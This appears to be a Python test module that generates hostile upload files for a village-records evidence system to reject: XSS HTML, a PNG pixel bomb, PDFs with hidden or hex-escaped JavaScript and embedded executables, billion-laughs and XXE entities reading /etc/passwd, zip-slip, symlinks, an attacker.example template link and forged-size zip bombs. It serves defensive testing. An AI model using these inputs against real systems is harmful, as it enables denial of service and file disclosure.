"""A generated corpus of hostile upload files (issue 15) and of good ones, built in memory.

Each hostile item is (id, file name, bytes, fragments): the refusal shown to the user must contain one
of `fragments` wherever the file reaches the parsing checks (the imports refuse non-.xlsx names earlier,
with their own message). Nothing here allocates a bomb's pixels or writes its bytes uncompressed.
"""

import io
import os
import struct
import zipfile
import zlib

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.assessments.conftest import make_pdf

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

# a villager's home, as phones and editors write it into comments and XMP besides the EXIF GPS block
PLACE = b"GPS 31.234567N 121.456789E"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>31.234567N</exif:GPSLatitude></x:xmpmeta>'

BROKEN = ("已损坏", "无法解析", "无法识别")
PDF_ACTIVE = ("脚本", "启动命令", "嵌入", "自动执行", "附件")
STRUCTURE = ("文档结构异常",)
BOMB = ("压缩炸弹", "过大", "已损坏")
MISMATCH = ("内容与扩展名不符", "不是有效的", "不是 xlsx", "只接受")


# --- images -------------------------------------------------------------------------------------------


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width=50_000, height=50_000):
    """A PNG whose header declares width×height pixels; its IDAT holds a few compressed rows only."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * (width * 3 + 1) * 2, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def noise_image(size=(96, 64)):
    return Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))


def png_bytes(image=None):
    buf = io.BytesIO()
    (image or noise_image()).save(buf, "PNG")
    return buf.getvalue()


def jpeg_with_gps():
    """A phone-like photo: EXIF with a GPS position and the camera's make."""
    image = noise_image((640, 480))
    exif = Image.Exif()
    exif[0x010F] = "VillagePhone"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (31.0, 14.0, 5.0), "E", (121.0, 28.0, 7.0)
    buf = io.BytesIO()
    image.save(buf, "JPEG", exif=exif, xmp=XMP, comment=PLACE, quality=90)
    return buf.getvalue()


def png_with_metadata():
    """A screenshot-like PNG with EXIF, a text chunk and XMP naming the place."""
    from PIL import PngImagePlugin

    exif = Image.Exif()
    exif[0x010F] = "VillagePhone"  # Make
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PLACE.decode())
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    buf = io.BytesIO()
    noise_image().save(buf, "PNG", exif=exif, pnginfo=info)
    return buf.getvalue()


def jpeg_header_then_html():
    """SOI, a JFIF APP0 segment, then an HTML page: what a browser sniffing content would render."""
    app0 = b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + HTML


def heic_bytes():
    import pillow_heif

    pillow_heif.register_heif_opener()
    buf = io.BytesIO()
    noise_image((128, 96)).save(buf, "HEIF")
    return buf.getvalue()


# --- PDFs ---------------------------------------------------------------------------------------------


def _pdf(writer):
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _writer():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf_with_javascript():
    from pypdf.actions import JavaScript

    writer = _writer()
    writer.add_open_action(JavaScript("app.alert('x');"))
    return _pdf(writer)


def pdf_with_hex_escaped_javascript():
    """/S /J#61vaScript /J#53 ...: the raw bytes never spell /JavaScript; only a parser sees it."""
    data = make_pdf()
    return data.replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    )


def pdf_with_additional_action():
    writer = _writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("x")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return _pdf(writer)


def pdf_with_embedded_file():
    writer = _writer()
    writer.add_attachment("payload.exe", b"MZ\x90\0" + os.urandom(64))
    return _pdf(writer)


def pdf_with_file_attachment_annotation():
    writer = _writer()
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    return _pdf(writer)


def encrypted_pdf():
    writer = _writer()
    writer.encrypt("village-secret", algorithm="RC4-128")
    return _pdf(writer)


def weasyprint_pdf():
    import weasyprint

    return weasyprint.HTML(string="<h1>清廉村居</h1><p>三务公开记录</p>").write_pdf()


# --- Office packages ----------------------------------------------------------------------------------


def xlsx_bytes(text="清廉村居"):
    wb = Workbook()
    wb.active["A1"] = text
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def docx_bytes():
    import docx

    document = docx.Document()
    document.add_paragraph("“清廉村居”建设申请表")
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def repack(data, *, replace=None, add=(), infos=()):
    """The package with parts replaced ({name: bytes}), extra parts added [(name, bytes)], and extra raw
    ZipInfo entries [(ZipInfo, bytes)]."""
    replace = replace or {}
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name in set(replace) - set(src.namelist()):
            zf.writestr(name, replace[name])
        for name, content in add:
            zf.writestr(name, content)
        for info, content in infos:
            zf.writestr(info, content)
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol9;</t></si></sst>"
)

XXE_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)


def _rels(rel_type, target):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'
        f'<Relationship Id="rId9" Type="{OFFICE_REL}/{rel_type}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def symlink_info(name):
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # unix
    info.external_attr = (0o120777 << 16) | 0x20
    return info


def declared_small_actual_large(data, part, size=30 * 1024 * 1024):
    """Add `part` holding `size` zero bytes, then rewrite its declared (uncompressed) size to 100 bytes in
    both the local header and the central directory: the directory looks harmless."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(part, "w", force_zip64=False) as fh:
        chunk = b"\0" * (1024 * 1024)
        for _ in range(size // len(chunk)):
            fh.write(chunk)
    raw = bytearray(out.getvalue())
    name = part.encode()
    local = raw.find(b"PK\x03\x04")
    while local >= 0:
        n_len = struct.unpack_from("<H", raw, local + 26)[0]
        if raw[local + 30 : local + 30 + n_len] == name:
            struct.pack_into("<I", raw, local + 22, 100)
            break
        local = raw.find(b"PK\x03\x04", local + 4)
    central = raw.find(b"PK\x01\x02")
    while central >= 0:
        n_len = struct.unpack_from("<H", raw, central + 28)[0]
        if raw[central + 46 : central + 46 + n_len] == name:
            struct.pack_into("<I", raw, central + 24, 100)
            break
        central = raw.find(b"PK\x01\x02", central + 4)
    assert local >= 0 and central >= 0
    # a data descriptor, if written, would carry the true size too
    return bytes(raw)


def declared_large(data, part, size=101 * 1024 * 1024):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(part, "w") as fh:
        chunk = b"\0" * (1024 * 1024)
        for _ in range(size // len(chunk)):
            fh.write(chunk)
    return out.getvalue()


def high_ratio(data, part, size=20 * 1024 * 1024):
    """Under the 100 MB total, but one part inflates ~1000×."""
    return declared_large(data, part, size)


def office_attacks(kind):
    """The package attacks on a real .docx or .xlsx base, named with that extension."""
    base = docx_bytes() if kind == "docx" else xlsx_bytes()
    ext = f".{kind}"
    laughs_part = "word/document.xml" if kind == "docx" else "xl/sharedStrings.xml"
    xml_part = "word/document.xml" if kind == "docx" else "xl/worksheets/sheet1.xml"
    media = "word/media/big.bin" if kind == "docx" else "xl/media/big.bin"
    settings_rels = "word/_rels/settings.xml.rels" if kind == "docx" else "xl/_rels/workbook.xml.rels"
    template_rel = ("attachedTemplate", "http://attacker.example/t.dotm")
    if kind == "xlsx":
        template_rel = ("externalLink", "file:///C:/secret/other.xlsx")
    return [
        (
            f"{kind}_billion_laughs",
            "实体" + ext,
            repack(base, replace={laughs_part: BILLION_LAUGHS}),
            STRUCTURE,
        ),
        (f"{kind}_xxe", "外部实体" + ext, repack(base, replace={xml_part: XXE_DOCUMENT}), STRUCTURE),
        (
            f"{kind}_macro",
            "宏" + ext,
            repack(
                base, add=[(("word/" if kind == "docx" else "xl/") + "vbaProject.bin", b"\xd0\xcf\x11\xe0")]
            ),
            ("宏",),
        ),
        (
            f"{kind}_external_{template_rel[0]}",
            "模板" + ext,
            repack(base, add=[(settings_rels, _rels(*template_rel))])
            if kind == "docx"
            else repack(base, replace={settings_rels: _rels(*template_rel)}),
            ("外部",),
        ),
        (
            f"{kind}_zip_slip",
            "路径" + ext,
            repack(base, add=[("../../../tmp/evil.xml", b"<a/>")]),
            ("非法路径",),
        ),
        (
            f"{kind}_symlink",
            "链接" + ext,
            repack(base, infos=[(symlink_info("word/link.xml"), b"/etc/passwd")]),
            ("符号链接",),
        ),
        (f"{kind}_bomb_declared_small", "炸弹小" + ext, declared_small_actual_large(base, media), BOMB),
        (f"{kind}_bomb_declared_large", "炸弹大" + ext, declared_large(base, media), BOMB),
        (f"{kind}_bomb_ratio", "炸弹比" + ext, high_ratio(base, media), BOMB),
    ]


def hostile_corpus():
    good_pdf = make_pdf()
    polyglot = good_pdf + docx_bytes()  # a PDF that is also a zip (the central directory sits at the end)
    png = png_bytes()
    return [
        ("png_pixel_bomb", "炸弹.png", png_bomb(), ("像素过多",)),
        ("jpeg_header_html", "照片.jpg", jpeg_header_then_html(), BROKEN),
        ("pdf_is_html", "表.pdf", b"%PDF-1.7\n" + HTML, BROKEN),
        ("pdf_is_html_with_eof", "表.pdf", b"%PDF-1.7\n" + HTML + b"%%EOF\n", BROKEN),
        ("pdf_cut_200", "表.pdf", make_pdf()[:200], BROKEN),
        ("png_cut_half", "图.png", png[: len(png) // 2], BROKEN),
        ("pdf_javascript", "脚本.pdf", pdf_with_javascript(), PDF_ACTIVE),
        ("pdf_hex_escaped_javascript", "脚本.pdf", pdf_with_hex_escaped_javascript(), PDF_ACTIVE),
        ("pdf_additional_action", "动作.pdf", pdf_with_additional_action(), PDF_ACTIVE),
        ("pdf_embedded_file", "嵌入.pdf", pdf_with_embedded_file(), PDF_ACTIVE),
        ("pdf_file_attachment", "附件.pdf", pdf_with_file_attachment_annotation(), PDF_ACTIVE),
        ("pdf_trailing_html", "尾巴.pdf", good_pdf + HTML, ("结束标记之后",)),
        ("pdf_encrypted", "加密.pdf", encrypted_pdf(), ("加密",)),
        *office_attacks("docx"),
        *office_attacks("xlsx"),
        ("wrong_extension_png_as_pdf", "扫描.pdf", png, MISMATCH),
        ("wrong_extension_pdf_as_docx", "报告.docx", good_pdf, MISMATCH),
        ("wrong_extension_exe", "工具.exe", b"MZ\x90\0" + os.urandom(64), ("不支持的文件类型", "只接受")),
        ("polyglot_pdf_zip_as_pdf", "双重.pdf", polyglot, ("结束标记之后",)),
        ("polyglot_pdf_zip_as_docx", "双重.docx", polyglot, MISMATCH),
    ]


def good_files():
    """(id, name, bytes, stored extension) of files every evidence path must store."""
    return [
        ("pdf_pypdf", "申请表.pdf", make_pdf(title="申请表"), "pdf"),
        ("pdf_weasyprint", "报告.pdf", weasyprint_pdf(), "pdf"),
        ("jpeg_gps", "公开栏.jpg", jpeg_with_gps(), "jpg"),
        ("png", "截图.png", png_with_metadata(), "png"),
        ("heic", "IMG_0001.heic", heic_bytes(), "jpg"),
        ("docx", "说明.docx", docx_bytes(), "docx"),
        ("xlsx", "台账.xlsx", xlsx_bytes(), "xlsx"),
    ]
